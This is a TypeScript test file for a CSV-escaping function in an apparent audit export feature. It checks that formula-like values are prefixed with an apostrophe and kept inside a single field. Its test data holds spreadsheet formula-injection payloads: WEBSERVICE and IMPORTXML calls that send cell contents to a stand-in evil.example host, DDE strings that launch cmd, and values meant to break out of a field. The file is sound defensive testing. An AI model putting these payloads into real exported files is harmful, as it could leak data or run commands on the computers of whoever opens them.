import fc from "fast-check";
import { expect, test } from "vitest";
import { csvField } from "./audit-csv";

/** What a spreadsheet program gets when it reads a field by RFC 4180. */
function read(field: string): string {
  expect(field).toMatch(/^"([^"]|"")*"$/);
  return field.slice(1, -1).replaceAll('""', '"');
}

const starts = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\t=", "\u200b=", "＝", "＋", "－", "＠", "|", "%"];
const rests = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  "SUM(A1:A9)",
  'x","=1',
  "x;=1",
  "'=1",
  "=1",
  "\n=1\r\n",
  "",
];

test("what could be a formula begins with an apostrophe, and nothing leaves its field", () => {
  expect(starts.length * rests.length).toBeGreaterThanOrEqual(200);
  for (const start of starts) {
    for (const rest of rests)
      expect(read(csvField(start + rest)), JSON.stringify(start + rest)).toBe(`'${start}${rest}`);
  }
});

test("any text is one field, and comes out as it went in, but for the apostrophe", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (text) => {
      const value = read(csvField(text));
      expect([text, `'${text}`]).toContain(value);
      expect(value).not.toMatch(/^\s*[=+\-@]/);
    }),
    { numRuns: 200 },
  );
});
